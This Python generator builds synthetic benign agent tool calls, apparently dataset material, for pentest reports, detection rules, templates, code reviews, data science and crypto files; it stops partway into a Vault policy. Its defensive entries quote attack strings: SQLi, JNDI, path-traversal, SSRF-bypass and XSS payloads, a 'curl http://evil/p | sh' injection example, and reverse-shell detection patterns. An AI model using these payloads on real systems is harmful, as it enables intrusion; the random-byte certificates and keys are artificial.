"""Legit kinds 8-14: security work, templating, code review, data science, crypto material, secrets mgmt, correspondence."""
import hashlib
import json

from common import (L, R, b64, b64url, rbytes, hexs, chars, pem, ssh_ed25519_public, ssh_rsa_public, wrap, uuid4,
                    ALNUM, URLSAFE, DIGITS)


def security_team_work():
    out = []
    out.append(L("pentest report finding quoting SQLi payload with remediation", "docs.create_page", {
        "space": "SEC", "title": "2025-Q1 external pentest – finding F-03",
        "body": """F-03  SQL injection in legacy export endpoint (High, CVSS 8.6)

Affected: GET https://legacy.example-retail.com/export.php?region=<value>

Description: the `region` parameter is concatenated into a MySQL query. The tester confirmed boolean-based
inference by comparing responses for `region=EU' AND '1'='1` and `region=EU' AND '1'='2`, and a UNION-based
read of the `users` table column count using `' UNION SELECT NULL,NULL,NULL-- -`. No data beyond the column
count was extracted, per the rules of engagement.

Remediation: replace the string concatenation with a prepared statement (PDO::prepare with bound parameters),
restrict the DB account to SELECT on the export view, and decommission export.php once the v2 API ships.
Retest: scheduled for 2025-03-20."""}))

    out.append(L("Sigma rule detecting JNDI lookups in web logs", "fs.write_file", {
        "path": "detections/sigma/web_log4shell_jndi.yml",
        "content": """title: Log4Shell JNDI lookup in web request
id: 2f2c0a8e-9b3e-4c7d-8f0a-1e2d3c4b5a69
status: stable
description: Detects JNDI lookup strings (including common obfuscations) in URI, User-Agent or headers.
references:
  - https://nvd.nist.gov/vuln/detail/CVE-2021-44228
logsource:
  category: webserver
detection:
  keywords:
    - '${jndi:'
    - '${${lower:j}ndi'
    - '${${::-j}${::-n}${::-d}${::-i}'
    - '%24%7Bjndi%3A'
  condition: keywords
falsepositives:
  - Security scanners run by the internal red team (source 10.99.0.0/16)
level: high
tags:
  - attack.initial_access
  - attack.t1190
"""}))

    out.append(L("Semgrep rule for shell=True subprocess calls", "fs.write_file", {
        "path": ".semgrep/python-shell-true.yml",
        "content": """rules:
  - id: subprocess-shell-true-with-format
    languages: [python]
    severity: ERROR
    message: >-
      subprocess called with shell=True and a formatted string; an attacker-controlled value such as
      "x; curl http://evil/p | sh" would run in the shell. Pass an argument list instead.
    patterns:
      - pattern-either:
          - pattern: subprocess.$F(f"...", ..., shell=True, ...)
          - pattern: subprocess.$F("..." % $X, ..., shell=True, ...)
          - pattern: subprocess.$F("...".format(...), ..., shell=True, ...)
    fix-regex:
      regex: shell=True
      replacement: shell=False
"""}))

    out.append(L("CTF write-up describing a traversal challenge", "blog.publish_draft", {
        "title": "Write-up: 'Paper Trail' (web, 200 pts)",
        "markdown": """## Recon
The challenge serves PDFs through `/download?file=invoice_1.pdf`. Requesting `file=../app.py` returned 403,
so there was a filter. Double encoding (`..%252f`) came back 404, which suggested the filter only stripped
a literal `../` once.

## Bypass
`....//....//app.py` collapses to `../../app.py` after the single strip pass, and the source disclosed the
flag path. The final request was `/download?file=....//....//....//flag.txt`.

## Fix the organisers shipped
They now resolve the path with `os.path.realpath` and check it starts with the downloads directory,
which is the right approach: never sanitise by string replacement.
"""}))

    out.append(L("vulnerability ticket on SSRF with IMDSv2 remediation", "jira.create_issue", {
        "project": "VULN", "issue_type": "Vulnerability", "priority": "High",
        "summary": "SSRF in link-preview service can reach instance metadata",
        "description": """Reported via bug bounty (H1 #2389114), validated by AppSec.

The preview worker fetches arbitrary URLs. Requesting a preview of http://169.254.169.254/latest/meta-data/
returned the IAM role name; decimal encoding (http://2852039166/) bypassed the string blocklist.

Actions:
1. Enforce IMDSv2 (http_tokens=required, hop limit 1) on the preview ASG.
2. Replace the blocklist with resolve-then-check: deny private, loopback, link-local and CGNAT ranges after DNS resolution, and re-check on redirects.
3. Rotate the role's sessions and review CloudTrail for GetCallerIdentity from unexpected IPs since 2025-01-20.""",
        "labels": ["ssrf", "bug-bounty", "cloud"]}))

    out.append(L("YARA rule for PHP web shells", "fs.write_file", {
        "path": "detections/yara/php_webshell_generic.yar",
        "content": """rule php_webshell_generic
{
    meta:
        author = "detection-eng"
        description = "Small PHP files passing request input to command execution"
        date = "2025-02-10"
    strings:
        $php = "<?php" nocase
        $in1 = "$_GET[" nocase
        $in2 = "$_POST[" nocase
        $in3 = "$_REQUEST[" nocase
        $ex1 = "system(" nocase
        $ex2 = "passthru(" nocase
        $ex3 = "shell_exec(" nocase
        $ex4 = /eval\\s*\\(\\s*base64_decode/ nocase
    condition:
        filesize < 20KB and $php and any of ($in*) and any of ($ex*)
}
"""}))

    out.append(L("ModSecurity custom rule with SQL keyword regex", "waf.update_rules", {
        "ruleset": "edge-custom",
        "rules": [
            "SecRule ARGS \"@rx (?i)\\bunion\\b[\\s/*]+(?:all\\s+)?select\\b\" \"id:100501,phase:2,deny,status:403,log,msg:'UNION-based SQLi',tag:'attack-sqli'\"",
            "SecRule REQUEST_URI \"@rx (?:\\.\\./|%2e%2e%2f|%252e%252e%252f)\" \"id:100502,phase:1,deny,status:400,log,msg:'Path traversal sequence'\"",
            "SecRule REQUEST_HEADERS \"@contains ${jndi:\" \"id:100503,phase:1,deny,status:403,log,msg:'JNDI lookup'\""]}))

    out.append(L("Suricata rule for bash reverse shell traffic", "fs.write_file", {
        "path": "ids/local.rules",
        "content": "alert tcp $HOME_NET any -> $EXTERNAL_NET any (msg:\"LOCAL possible interactive bash over raw TCP\"; flow:established,to_server; "
                   "content:\"bash: no job control in this shell\"; nocase; classtype:trojan-activity; sid:9000101; rev:2;)\n"
                   "alert http $HOME_NET any -> $EXTERNAL_NET any (msg:\"LOCAL curl piped to shell download\"; flow:established,to_server; "
                   "http.user_agent; content:\"curl/\"; startswith; http.uri; pcre:\"/\\/(?:s|x|p)\\.sh$/\"; classtype:bad-unknown; sid:9000102; rev:1;)\n"}))

    out.append(L("security awareness email describing invoice fraud", "email.send", {
        "to": ["all-staff@harborline.com"], "subject": "Reminder: how bank-detail change scams work",
        "body": """Hi all,

Finance saw two attempts this month. The pattern is always similar: an email that looks like it comes from a
supplier says their bank details have changed, asks us to pay open invoices to a new account "today", and
discourages a phone call ("our lines are down").

Our process does not change: bank details are only updated through the supplier portal, and AP always calls
the supplier back on the number already in the vendor master, never one from the email. If anything feels
off, forward the message to phishing@harborline.com.

Thanks,
Security & Finance"""}))

    out.append(L("bug bounty triage comment reproducing SSTI safely", "hackerone.add_comment", {
        "report_id": "2401187", "internal": True,
        "message": "Reproduced on staging: setting the invoice note to {{7*7}} renders 49 in the PDF preview, so the note is rendered as a Jinja2 template rather than data. I stopped at arithmetic, no attempt at object traversal. Root cause: `Template(note).render()` in pdf/render.py. Fix: render notes as plain text via `{{ note }}` in a fixed template with autoescape, and use SandboxedEnvironment for the customer-editable layouts. Severity: High."}))
    return out


def web_email_templating():
    out = []
    out.append(L("Jinja2 order confirmation email", "email.save_template", {
        "name": "order_confirmation", "engine": "jinja2",
        "subject": "Your order {{ order.number }} is confirmed",
        "html": """{% extends "emails/base.html" %}
{% block content %}
<p>Hi {{ customer.first_name|e }},</p>
<p>Thanks for your order placed on {{ order.created_at|datetimeformat('%d %B %Y') }}.</p>
<table class="items">
  {% for item in order.items %}
  <tr>
    <td>{{ item.name|e }}</td><td>{{ item.qty }} &times;</td><td>{{ item.unit_price|currency(order.currency) }}</td>
  </tr>
  {% endfor %}
</table>
<p><strong>Total: {{ order.total|currency(order.currency) }}</strong></p>
{% if order.gift_message %}<blockquote>{{ order.gift_message|e }}</blockquote>{% endif %}
{% endblock %}"""}))

    out.append(L("Handlebars transactional template with partials", "email.save_template", {
        "name": "weekly_summary", "engine": "handlebars",
        "html": """{{> header title="Your week in review"}}
<h2>Hello {{user.displayName}}</h2>
{{#if projects.length}}
<ul>
  {{#each projects}}
  <li><a href="{{../baseUrl}}/p/{{this.slug}}">{{this.name}}</a> &mdash; {{this.openTasks}} open tasks</li>
  {{/each}}
</ul>
{{else}}
<p>No activity this week.</p>
{{/if}}
{{> footer unsubscribeUrl=unsubscribeUrl}}"""}))

    out.append(L("Shopify Liquid product section", "shopify.update_theme_file", {
        "theme_id": 144211, "key": "sections/product-badges.liquid",
        "value": """{% assign on_sale = false %}
{% if product.compare_at_price > product.price %}{% assign on_sale = true %}{% endif %}
<div class="badges">
  {% if on_sale %}
    <span class="badge badge--sale">{{ 'products.badge.sale' | t }} &minus;{{ product.compare_at_price | minus: product.price | times: 100 | divided_by: product.compare_at_price }}%</span>
  {% endif %}
  {% unless product.available %}<span class="badge">{{ 'products.badge.sold_out' | t }}</span>{% endunless %}
  <h1>{{ product.title | escape }}</h1>
  {% render 'price', product: product, show_compare: on_sale %}
</div>"""}))

    out.append(L("Thymeleaf account page with Spring expressions", "fs.write_file", {
        "path": "src/main/resources/templates/account/profile.html",
        "content": """<!DOCTYPE html>
<html xmlns:th="http://www.thymeleaf.org" th:replace="~{layout :: page(~{::main})}">
<main>
  <h1 th:text="#{profile.title}">Profile</h1>
  <p th:text="${user.fullName}">Jane Doe</p>
  <p th:if="${user.emailVerified}" th:text="#{profile.verified}">Verified</p>
  <form th:action="@{/account/profile}" th:object="${profileForm}" method="post">
    <input type="text" th:field="*{displayName}" maxlength="64"/>
    <span th:if="${#fields.hasErrors('displayName')}" th:errors="*{displayName}"></span>
    <button type="submit" th:text="#{common.save}">Save</button>
  </form>
  <a th:href="@{/orders(page=${page + 1})}">Older orders</a>
</main>
</html>"""}))

    out.append(L("Rails ERB view with helpers", "fs.write_file", {
        "path": "app/views/invoices/show.html.erb",
        "content": """<% content_for :title, "Invoice #{@invoice.number}" %>
<h1><%= @invoice.number %></h1>
<p><%= t(".issued_on", date: l(@invoice.issued_on, format: :long)) %></p>
<table>
  <% @invoice.line_items.each do |li| %>
    <tr><td><%= li.description %></td><td><%= number_to_currency(li.amount, unit: @invoice.currency_symbol) %></td></tr>
  <% end %>
</table>
<%= link_to "Download PDF", invoice_path(@invoice, format: :pdf), class: "btn" %>
<%# the notes field is sanitized on save; render as plain text %>
<p class="notes"><%= simple_format(h(@invoice.notes)) %></p>"""}))

    out.append(L("Twig form template in Symfony", "fs.write_file", {
        "path": "templates/contact/form.html.twig",
        "content": """{% extends 'base.html.twig' %}
{% block title %}{{ 'contact.title'|trans }}{% endblock %}
{% block body %}
  {{ form_start(form, {'attr': {'novalidate': 'novalidate'}}) }}
    {{ form_row(form.name) }}
    {{ form_row(form.email) }}
    {{ form_row(form.message, {'attr': {'rows': 6}}) }}
    <button class="btn">{{ 'contact.send'|trans }}</button>
  {{ form_end(form) }}
  {% for message in app.flashes('success') %}
    <div class="alert alert-success">{{ message }}</div>
  {% endfor %}
{% endblock %}"""}))

    out.append(L("Mustache Slack notification template", "notifications.save_template", {
        "name": "deploy_finished", "engine": "mustache", "channel": "slack",
        "template": json.dumps({"blocks": [{"type": "section", "text": {"type": "mrkdwn",
            "text": "*{{service}}* {{version}} deployed to *{{environment}}* by {{actor}}{{#rollback}} (rollback of {{previous}}){{/rollback}}"}},
            {"type": "context", "elements": [{"type": "mrkdwn", "text": "<{{pipelineUrl}}|pipeline> · {{durationSeconds}}s"}]}]})}))

    out.append(L("Go html/template with range and conditionals", "fs.write_file", {
        "path": "web/templates/status.gohtml",
        "content": """{{define "status"}}
<!doctype html>
<title>{{.Title}}</title>
<h1>{{.Title}}</h1>
<p>Last updated {{.Updated.Format "2006-01-02 15:04 MST"}}</p>
<ul>
{{range .Components}}
  <li class="{{if eq .State "operational"}}ok{{else}}degraded{{end}}">{{.Name}}: {{.State}}</li>
{{else}}
  <li>No components configured.</li>
{{end}}
</ul>
{{template "footer" .}}
{{end}}"""}))

    out.append(L("FreeMarker invoice template with list and currency", "docs.render_template", {
        "engine": "freemarker",
        "template": """<#-- invoice.ftl -->
<h1>Invoice ${invoice.number}</h1>
<p>${customer.name?html}<br>${customer.address?html}</p>
<table>
<#list invoice.lines as line>
  <tr><td>${line.description?html}</td><td>${line.quantity}</td><td>${line.amount?string.currency}</td></tr>
</#list>
</table>
<#if invoice.discount gt 0><p>Discount: ${invoice.discount?string.percent}</p></#if>
<p>Total due: ${invoice.total?string.currency}</p>""",
        "model": {"invoice": {"number": "INV-2025-0142", "lines": [], "discount": 0, "total": 1290.0},
                  "customer": {"name": "Kowalski & Partners", "address": "ul. Prosta 12, Warszawa"}}}))

    out.append(L("Vue i18n template plus Spring properties with placeholders", "code.write_files", {
        "files": [
            {"path": "apps/web/src/components/CheckoutSummary.vue",
             "content": """<template>
  <section>
    <h2>{{ $t('checkout.title') }}</h2>
    <p v-if="cart.items.length === 0">{{ $t('checkout.empty') }}</p>
    <ul v-else>
      <li v-for="item in cart.items" :key="item.id">{{ item.name }} × {{ item.qty }} — {{ formatPrice(item.total) }}</li>
    </ul>
    <strong>{{ $t('checkout.total', { amount: formatPrice(cart.total) }) }}</strong>
  </section>
</template>"""},
            {"path": "services/api/src/main/resources/application.properties",
             "content": "spring.datasource.url=jdbc:postgresql://${DB_HOST:localhost}:${DB_PORT:5432}/${DB_NAME:shop}\nspring.datasource.username=${DB_USER:shop}\nspring.datasource.password=${DB_PASSWORD}\nserver.port=${PORT:8080}\n"}]}))
    return out


def code_review():
    out = []
    out.append(L("Python diff replacing os.system with argument list", "github.create_review_comment", {
        "repo": "acme/media-tools", "pull_number": 318, "path": "media/convert.py", "line": 42,
        "body": """Nice fix. For the record, the old line was

```python
os.system(f"ffmpeg -i {src} -vf scale=640:-1 {dst}")
```

which would have run anything after a `;` in a crafted filename. The new version is good:

```python
subprocess.run(["ffmpeg", "-i", src, "-vf", "scale=640:-1", dst], check=True)
```

One nit: add `"--"` before user-controlled paths so a filename starting with `-` isn't parsed as an option."""}))

    out.append(L("Go diff adding path containment check", "github.create_pull_request", {
        "owner": "acme", "repo": "filesvc", "base": "main", "head": "fix/path-containment",
        "title": "Reject paths escaping the storage root",
        "body": """```diff
 func (s *Store) Open(name string) (*os.File, error) {
-	return os.Open(filepath.Join(s.root, name))
+	p := filepath.Join(s.root, filepath.Clean("/"+name))
+	rel, err := filepath.Rel(s.root, p)
+	if err != nil || rel == ".." || strings.HasPrefix(rel, "../") {
+		return nil, ErrOutsideRoot
+	}
+	return os.Open(p)
 }
```
Adds table tests for `../etc/passwd`, `a/../../b`, and `%2e%2e/` (decoded before reaching Open)."""}))

    out.append(L("Java review comment on string-concatenated query", "gitlab.add_mr_note", {
        "project": "backend/claims", "merge_request_iid": 77,
        "body": """Blocking: `ClaimDao.findByPolicy` builds

```java
String q = "SELECT * FROM claims WHERE policy_no = '" + policyNo + "' ORDER BY " + sort;
```

Please switch to a `PreparedStatement` with `?` for `policy_no`, and map `sort` through an allow-list
(`Map.of("date", "created_at", "amount", "amount")`) since ORDER BY can't be parameterised."""}))

    out.append(L("Rust diff introducing unsafe with review question", "github.create_review_comment", {
        "repo": "ferrous-labs/edge-proxy", "pull_number": 1204, "path": "src/buf.rs", "line": 88,
        "body": """```rust
-    let slice = &self.data[start..end];
+    // SAFETY: start <= end <= self.len is checked in `reserve`
+    let slice = unsafe { self.data.get_unchecked(start..end) };
```
Do you have a benchmark showing the bounds check matters here? If it's within noise I'd keep the safe indexing; otherwise please add a `debug_assert!(end <= self.data.len())`."""}))

    out.append(L("TypeScript diff adding DOMPurify before innerHTML", "bitbucket.comment_pr", {
        "repo": "web/storefront", "pr_id": 455,
        "content": """LGTM after this change:

```ts
- el.innerHTML = review.body;
+ el.innerHTML = DOMPurify.sanitize(review.body, { ALLOWED_TAGS: ['b', 'i', 'em', 'strong', 'p', 'br'] });
```

Test case with `<img src=x onerror=alert(1)>` in the review body now renders as an image with no handler. 👍"""}))

    out.append(L("Kotlin review on SQL template strings", "github.create_review_comment", {
        "repo": "acme/analytics-api", "pull_number": 902, "path": "src/main/kotlin/Reports.kt", "line": 57,
        "body": "`\"SELECT * FROM ${table} WHERE day = '${day}'\"` — `table` comes from our enum so it's fine, but `day` is a request param. Use `jdbi.withHandle { it.createQuery(\"SELECT * FROM <table> WHERE day = :day\").define(\"table\", table.sqlName).bind(\"day\", day) }`."}))

    out.append(L("C diff fixing unbounded sprintf", "gerrit.post_review", {
        "change": "I3b9a2c1d7e", "revision": "current",
        "message": """Patch Set 3: Code-Review+1

src/log.c:
-    char buf[128];
-    sprintf(buf, "%s: %s", prefix, msg);
+    char buf[128];
+    int n = snprintf(buf, sizeof buf, "%s: %s", prefix, msg);
+    if (n < 0 || (size_t)n >= sizeof buf) { /* truncated */ buf[sizeof buf - 1] = '\\0'; }

Good. Could you also run the fuzz target (make fuzz-log) for a few minutes before merging?"""}))

    out.append(L("Ruby review suggesting system with separate arguments", "github.create_review_comment", {
        "repo": "acme/thumbnailer", "pull_number": 66, "path": "app/services/resize.rb", "line": 14,
        "body": "Instead of ``system(\"convert #{path} -resize 200x200 #{out}\")`` use `system(\"convert\", path, \"-resize\", \"200x200\", out, exception: true)` — with separate args Ruby skips the shell entirely, so backticks or `$(...)` in an uploaded filename can't do anything."}))

    out.append(L("bash script review on quoting and strict mode", "gitea.review_pull", {
        "repo": "ops/scripts", "index": 23,
        "body": """Mostly good. Requested changes:

```bash
#!/usr/bin/env bash
set -euo pipefail
IFS=$'\\n\\t'

for f in "$@"; do           # was: for f in $*
  [[ -f "$f" ]] || { echo "missing: $f" >&2; exit 1; }
  cp -- "$f" "$BACKUP_DIR/$(basename -- "$f").$(date +%s)"
done
```

- quote `"$@"` so filenames with spaces survive
- `--` before filenames so `-rf` as a name is not an option
- `set -u` caught the unset `$BACKUP_DIR` in my test run"""}))

    out.append(L("PHP PR moving to PDO and output escaping", "github.create_pull_request", {
        "owner": "acme", "repo": "legacy-portal", "base": "main", "head": "sec/pdo-export",
        "title": "export.php: prepared statements + escaping (fixes F-03)",
        "body": """```php
- $rows = mysqli_query($db, "SELECT * FROM orders WHERE region = '" . $_GET['region'] . "'");
+ $stmt = $pdo->prepare('SELECT id, total, region FROM orders WHERE region = :region');
+ $stmt->execute([':region' => $_GET['region'] ?? '']);
+ $rows = $stmt->fetchAll(PDO::FETCH_ASSOC);
...
- echo "<td>" . $row['note'] . "</td>";
+ echo '<td>' . htmlspecialchars($row['note'], ENT_QUOTES, 'UTF-8') . '</td>';
```
Retest notes from the pentest attached to VULN-118."""}))
    return out


def data_science():
    r = R("legit-ds")
    out = []
    out.append(L("pandas cohort retention cell", "notebook.add_cell", {
        "notebook": "analysis/retention.ipynb", "cell_type": "code",
        "source": """import pandas as pd

orders = pd.read_parquet("../data/processed/orders_2024.parquet")
orders["cohort"] = orders.groupby("customer_id")["order_date"].transform("min").dt.to_period("M")
orders["period"] = orders["order_date"].dt.to_period("M")
orders["age"] = (orders["period"] - orders["cohort"]).apply(lambda x: x.n)

cohorts = orders.groupby(["cohort", "age"])["customer_id"].nunique().unstack(fill_value=0)
retention = cohorts.div(cohorts[0], axis=0).round(3)
retention.iloc[:12, :7]"""}))

    out.append(L("read_sql with bound params into pandas", "notebook.add_cell", {
        "notebook": "analysis/churn.ipynb", "cell_type": "code",
        "source": """from sqlalchemy import create_engine, text
engine = create_engine(os.environ["ANALYTICS_DB_URL"])  # read replica, read-only role

q = text(\"\"\"
    SELECT customer_id, plan, mrr, canceled_at
    FROM subscriptions
    WHERE started_at >= :start AND (canceled_at IS NULL OR canceled_at >= :start)
\"\"\")
subs = pd.read_sql(q, engine, params={"start": "2024-01-01"})
subs["churned"] = subs["canceled_at"].notna()
subs.groupby("plan")["churned"].mean().sort_values()"""}))

    out.append(L("scikit-learn pipeline with cross validation", "code.execute", {
        "language": "python",
        "code": """from sklearn.compose import ColumnTransformer
from sklearn.ensemble import HistGradientBoostingClassifier
from sklearn.model_selection import StratifiedKFold, cross_val_score
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import OneHotEncoder

cat = ["plan", "country", "acquisition_channel"]
num = ["tenure_days", "seats", "tickets_90d", "logins_30d"]
pre = ColumnTransformer([("cat", OneHotEncoder(handle_unknown="ignore", min_frequency=20), cat)], remainder="passthrough")
clf = Pipeline([("pre", pre), ("gb", HistGradientBoostingClassifier(max_iter=300, learning_rate=0.05))])
cv = StratifiedKFold(n_splits=5, shuffle=True, random_state=7)
scores = cross_val_score(clf, X[cat + num], y, cv=cv, scoring="roc_auc")
print(f"AUC {scores.mean():.3f} ± {scores.std():.3f}")"""}))

    out.append(L("PyTorch training loop snippet with config", "code.write_file", {
        "path": "train/loop.py",
        "content": """def train_epoch(model, loader, optimizer, scheduler, scaler, device, grad_clip=1.0):
    model.train()
    total = 0.0
    for step, (x, y) in enumerate(loader):
        x, y = x.to(device, non_blocking=True), y.to(device, non_blocking=True)
        optimizer.zero_grad(set_to_none=True)
        with torch.autocast(device_type="cuda", dtype=torch.bfloat16):
            loss = F.cross_entropy(model(x), y, label_smoothing=0.1)
        scaler.scale(loss).backward()
        scaler.unscale_(optimizer)
        torch.nn.utils.clip_grad_norm_(model.parameters(), grad_clip)
        scaler.step(optimizer)
        scaler.update()
        scheduler.step()
        total += loss.item()
    return total / (step + 1)
"""}))

    out.append(L("R dplyr summary script", "code.execute", {
        "language": "r",
        "code": """library(dplyr)
library(readr)
sales <- read_csv("data/sales_2024.csv", show_col_types = FALSE)
system.time({
  summary <- sales |>
    filter(!is.na(region), amount > 0) |>
    group_by(region, quarter = lubridate::quarter(order_date)) |>
    summarise(revenue = sum(amount), orders = n(), aov = revenue / orders, .groups = "drop") |>
    arrange(region, quarter)
})
print(summary, n = 40)"""}))

    out.append(L("notebook with shell escapes and magics", "notebook.add_cell", {
        "notebook": "experiments/embeddings.ipynb", "cell_type": "code",
        "source": "!pip install -q sentence-transformers==2.7.0 umap-learn\n!ls -lh ../data/raw | head\n%matplotlib inline\n%load_ext autoreload\n%autoreload 2"}))

    out.append(L("PySpark aggregation job", "spark.submit_job", {
        "cluster": "analytics-emr", "entrypoint": "jobs/daily_kpis.py", "args": ["--date", "2025-02-13"],
        "source": """from pyspark.sql import SparkSession, functions as F
spark = SparkSession.builder.appName("daily_kpis").getOrCreate()
ev = spark.read.parquet("s3a://lake-curated/events/dt=2025-02-13/")
kpis = (ev.filter(F.col("event").isin("signup", "purchase"))
          .groupBy("country")
          .pivot("event", ["signup", "purchase"])
          .count()
          .withColumn("conversion", F.round(F.col("purchase") / F.col("signup"), 4)))
kpis.write.mode("overwrite").parquet("s3a://lake-marts/kpis/dt=2025-02-13/")"""}))

    rows = []
    for name in ["logreg", "random_forest", "hist_gb", "xgboost", "catboost"]:
        rows.append("| %-13s | %.3f | %.3f | %.3f | %5d |" % (name, r.uniform(0.70, 0.9), r.uniform(0.3, 0.6), r.uniform(0.4, 0.7), r.randint(20, 900)))
    out.append(L("evaluation metrics table for experiment log", "wiki.update_page", {
        "page": "ML/Churn model v3 – evaluation",
        "content": "Holdout: customers who signed up Jul–Sep 2024 (n=18,422), label = churn within 90 days.\n\n"
                   "| model         | AUC   | PR-AUC | F1@0.5 | fit s |\n|---------------|-------|--------|--------|-------|\n" + "\n".join(rows) +
                   "\n\nDecision: ship hist_gb; calibrate with isotonic regression on the validation fold."}))

    out.append(L("A/B test write-up with statistics", "docs.create_page", {
        "space": "GROWTH", "title": "Experiment 2025-04: annual plan nudge",
        "body": """Hypothesis: showing the annual saving in the upgrade modal increases annual-plan share.

Design: 50/50 split at user level, 21 days, primary metric = share of upgrades choosing annual.
Control: 1,842 upgrades, 24.1% annual. Treatment: 1,911 upgrades, 28.7% annual.
Two-proportion z-test: z = 3.19, p = 0.0014; 95% CI for the difference: +1.8 to +7.4 pp.
Guardrail (upgrade rate) unchanged: 3.02% vs 3.05%.

Recommendation: roll out to 100%; monitor refunds on annual plans for 60 days."""}))

    out.append(L("feature store definition YAML", "fs.write_file", {
        "path": "features/customer_activity.yaml",
        "content": """entity: customer
source:
  type: bigquery
  table: analytics.fct_events
  timestamp_field: event_ts
features:
  - name: logins_7d
    aggregation: count
    filter: "event = 'login'"
    window: 7d
  - name: spend_30d
    aggregation: sum
    column: amount_usd
    window: 30d
  - name: distinct_devices_30d
    aggregation: count_distinct
    column: device_id
    window: 30d
online_store: redis://feature-cache.ml.svc.cluster.local:6379/0
ttl: 2d
"""}))
    return out


def crypto_material():
    r = R("legit-crypto")
    out = []
    cert_der = bytes.fromhex("3082") + (1400).to_bytes(2, "big") + bytes.fromhex("308204") + rbytes(r, 1400 - 3)
    out.append(L("public X.509 certificate chain for TLS config", "fs.write_file", {
        "path": "deploy/tls/api.example-retail.com.crt",
        "content": pem("CERTIFICATE", cert_der) + "\n" + pem("CERTIFICATE", bytes.fromhex("308205") + rbytes(r, 1290)) + "\n"}))

    keys = "\n".join([ssh_ed25519_public(r, "alice@laptop-2024"), ssh_rsa_public(r, "bob@workstation"),
                      "from=\"10.0.0.0/8\",no-port-forwarding " + ssh_ed25519_public(r, "ci-deploy@build")])
    out.append(L("authorized_keys with public keys only", "ssh.update_authorized_keys", {
        "host": "bastion-01.internal", "user": "deploy", "content": keys + "\n"}))

    sums = "\n".join("%s  %s" % (hashlib.sha256(("artifact-%d" % i).encode() + rbytes(r, 8)).hexdigest(), n)
                     for i, n in enumerate(["agentctl-1.8.2-linux-amd64.tar.gz", "agentctl-1.8.2-linux-arm64.tar.gz",
                                            "agentctl-1.8.2-darwin-arm64.tar.gz", "agentctl-1.8.2-windows-amd64.zip"]))
    out.append(L("SHA256SUMS release manifest", "github.upload_release_asset", {
        "repo": "acme/agentctl", "tag": "v1.8.2", "name": "SHA256SUMS", "content": sums + "\n"}))

    pgp = "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n" + wrap(b64(b"\x99\x01\x8d\x04" + rbytes(r, 660)), 64) + "\n=" + b64(rbytes(r, 3)) + "\n-----END PGP PUBLIC KEY BLOCK-----"
    out.append(L("PGP public key block for security.txt", "cms.update_page", {
        "path": "/.well-known/pgp-key.txt", "content_type": "text/plain", "body": pgp}))

    jwks = {"keys": [{"kty": "RSA", "use": "sig", "alg": "RS256", "kid": "2025-02-a", "e": "AQAB", "n": b64url(b"\xc1" + rbytes(r, 255))},
                     {"kty": "EC", "use": "sig", "alg": "ES256", "kid": "2025-02-b", "crv": "P-256",
                      "x": b64url(rbytes(r, 32)), "y": b64url(rbytes(r, 32))}]}
    out.append(L("JWKS document with public signing keys", "http.request", {
        "method": "PUT", "url": "https://auth-config.internal.example/v1/tenants/retail/jwks",
        "headers": {"Content-Type": "application/jwk-set+json"}, "json": jwks}))

    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x20\x00\x00\x00\x20\x08\x06\x00\x00\x00szz\xf4" + rbytes(r, 420) + b"\x00\x00\x00\x00IEND\xaeB`\x82"
    out.append(L("inline base64 PNG logo in email HTML", "email.save_template", {
        "name": "footer_logo", "engine": "none",
        "html": "<table role=\"presentation\"><tr><td><img alt=\"Harborline\" width=\"32\" height=\"32\" src=\"data:image/png;base64," + b64(png) + "\"></td><td>Harborline Ltd · 3 Dock Street · Leith</td></tr></table>"}))

    bundle = {"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
              "verificationMaterial": {"certificate": {"rawBytes": b64(rbytes(r, 700))},
                                       "tlogEntries": [{"logIndex": str(r.randint(10**8, 10**9)), "logId": {"keyId": b64(rbytes(r, 32))},
                                                        "kindVersion": {"kind": "hashedrekord", "version": "0.0.1"},
                                                        "integratedTime": "1739512345"}]},
              "messageSignature": {"messageDigest": {"algorithm": "SHA2_256", "digest": b64(rbytes(r, 32))},
                                   "signature": b64(rbytes(r, 71))}}
    out.append(L("Sigstore bundle attached to release", "github.upload_release_asset", {
        "repo": "acme/agentctl", "tag": "v1.8.2", "name": "agentctl-1.8.2-linux-amd64.tar.gz.sigstore.json",
        "content": json.dumps(bundle, indent=2)}))

    csr = pem("CERTIFICATE REQUEST", bytes.fromhex("308202") + rbytes(r, 640))
    out.append(L("certificate signing request submitted to internal CA", "pki.submit_csr", {
        "ca": "corp-issuing-ca-2", "profile": "tls-server", "sans": ["grafana.ops.internal.example", "10.20.5.40"],
        "csr": csr}))

    sri = lambda: "sha384-" + b64(rbytes(r, 48))
    out.append(L("HTML with subresource integrity hashes", "fs.write_file", {
        "path": "public/index.html",
        "content": "<!doctype html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>Status</title>\n"
                   "<link rel=\"stylesheet\" href=\"https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/css/bootstrap.min.css\" integrity=\"%s\" crossorigin=\"anonymous\">\n"
                   "<script src=\"https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/js/bootstrap.bundle.min.js\" integrity=\"%s\" crossorigin=\"anonymous\" defer></script>\n"
                   "</head>\n<body><main id=\"app\"></main></body>\n</html>\n" % (sri(), sri())}))

    kh = "\n".join("|1|%s|%s ssh-ed25519 %s" % (b64(rbytes(r, 20)), b64(rbytes(r, 20)), b64(b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20" + rbytes(r, 32)))
                   for _ in range(3))
    sig = "-----BEGIN PGP SIGNATURE-----\n\n" + wrap(b64(b"\x88\x75\x04\x00\x16\x0a" + rbytes(r, 110)), 64) + "\n=" + b64(rbytes(r, 3)) + "\n-----END PGP SIGNATURE-----"
    out.append(L("hashed known_hosts and signed commit object", "code.write_files", {
        "files": [{"path": "ci/known_hosts", "content": kh + "\n"},
                  {"path": "docs/verify-commits.md",
                   "content": "Example output of `git cat-file -p HEAD` for a signed commit:\n\n```\ntree %s\nparent %s\nauthor Dana Ruiz <dana@example-retail.com> 1739512000 +0100\ncommitter Dana Ruiz <dana@example-retail.com> 1739512000 +0100\ngpgsig %s\n\nrelease: v1.8.2\n```\n" % (hexs(r, 40), hexs(r, 40), sig.replace("\n", "\n "))}]}))
    return out


def secrets_management():
    out = []
    out.append(L("Vault policy and kv read by path", "fs.write_file", {
        "path": "vault/policies/payments-api.hcl",
        "content": """# Allows the payments API to read its own secrets and nothing else.
path "secret/data/payments/api/*" {
